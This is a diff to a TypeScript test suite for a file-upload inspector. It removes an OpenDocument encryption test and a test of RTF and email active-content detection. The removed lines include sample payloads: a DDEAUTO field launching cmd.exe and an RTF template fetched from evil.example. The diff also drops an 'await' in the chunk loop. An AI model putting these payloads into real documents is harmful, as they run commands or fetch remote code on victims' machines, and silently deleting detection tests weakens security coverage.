@@ -9,7 +9,7 @@ const headSize = 64 * 1024
 
 async function inspect(bytes: Buffer, name: string, chunkSize = headSize) {
   const { take, end } = inspectFile()
-  for (let at = 0; at < bytes.length; at += chunkSize) await take(bytes.subarray(at, at + chunkSize))
+  for (let at = 0; at < bytes.length; at += chunkSize) take(bytes.subarray(at, at + chunkSize))
   return end(bytes.subarray(0, headSize), name)
 }
 const officeOpen = 'application/vnd.openxmlformats-officedocument.'
@@ -34,18 +34,6 @@ describe('password-protected files are accepted and flagged', () => {
     ['an older Excel file', officeFiles.excel(true), 'Books.xls', 'application/vnd.ms-excel'],
     ['an older Word file', officeFiles.word(true), 'Contract.doc', 'application/msword'],
     ['an older presentation', officeFiles.powerpoint(true), 'Deck.ppt', 'application/vnd.ms-powerpoint'],
-    [
-      'OpenDocument',
-      zip(
-        ['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'],
-        [
-          'META-INF/manifest.xml',
-          '<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>',
-        ],
-      ),
-      'B.ods',
-      'application/vnd.oasis.opendocument.spreadsheet',
-    ],
     ['a ZIP', zip(['statement.pdf', 'xxxxxxxxxxxxxxxxxxxx', true]), 'May.zip', 'application/zip'],
   ])('%s', async (_, bytes, name, media_type) => {
     for (const chunkSize of [7, 512, headSize])
@@ -97,27 +85,6 @@ describe('the content of an OLE container determines the file type', () => {
   })
 })
 
-test('saved emails and RTF files with attachments or commands are flagged', async () => {
-  const find = async (bytes: Buffer, name: string) => (await inspect(bytes, name)).active_content
-  const rtf = (body: string) => Buffer.from(String.raw`{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}` + body + '}')
-  expect(await find(rtf('Plain words.'), 'a.rtf')).toEqual([])
-  expect(await find(rtf(String.raw`{\*\template C:\\Users\\Ana\\Normal.dotm}`), 'a.rtf')).toEqual([])
-  expect(await find(rtf(String.raw`{\object\objemb{\*\objdata 0105}}`), 'a.rtf')).toEqual(['embedded_files'])
-  expect(await find(rtf(String.raw`{\*\template https://evil.example/a.dot}`), 'a.rtf')).toEqual([
-    'external_templates',
-  ])
-  expect(await find(rtf(String.raw`{\field{\*\fldinst DDEAUTO c:\\windows\\cmd.exe}}`), 'a.doc')).toEqual([
-    'launch_actions',
-  ])
-  const mail = (part: string) =>
-    Buffer.from(`From: a@b.example\r\nSubject: Statement\r\nMIME-Version: 1.0\r\n\r\n${part}`)
-  expect(await find(mail('Hello'), 'a.eml')).toEqual([])
-  expect(await find(mail('Content-Disposition: attachment; filename=a.pdf\r\n\r\nx'), 'a.eml')).toEqual([
-    'embedded_files',
-  ])
-  expect(await find(officeFiles.email(true), 'a.msg')).toEqual(['embedded_files'])
-})
-
 test('a refusal is an error that states the reason', async () => {
   const error = await inspect(Buffer.alloc(0), 'a.pdf').catch((thrown: unknown) => thrown)
   expect(error).toBeInstanceOf(AppError)
@@ -127,14 +94,12 @@ test('a refusal is an error that states the reason', async () => {
 /** Builds a ZIP archive of deflated entries, optionally flagged as encrypted. */
 function zip(...entries: [name: string, content: string, isEncrypted?: boolean][]): Buffer {
   const parts = entries.map(([name, content, isEncrypted = false]) => {
-    // OpenDocument files store their media type without compression.
-    const isStored = name === 'mimetype'
-    const data = isStored ? Buffer.from(content) : deflateRawSync(content)
+    const data = deflateRawSync(content)
     const header = Buffer.alloc(30)
     header.writeUInt32LE(0x04034b50, 0)
     header.writeUInt16LE(20, 4)
     header.writeUInt16LE(isEncrypted ? 1 : 0, 6)
-    header.writeUInt16LE(isStored ? 0 : 8, 8)
+    header.writeUInt16LE(8, 8)
     header.writeUInt32LE(data.length, 18)
     header.writeUInt32LE(content.length, 22)
     header.writeUInt16LE(name.length, 26)
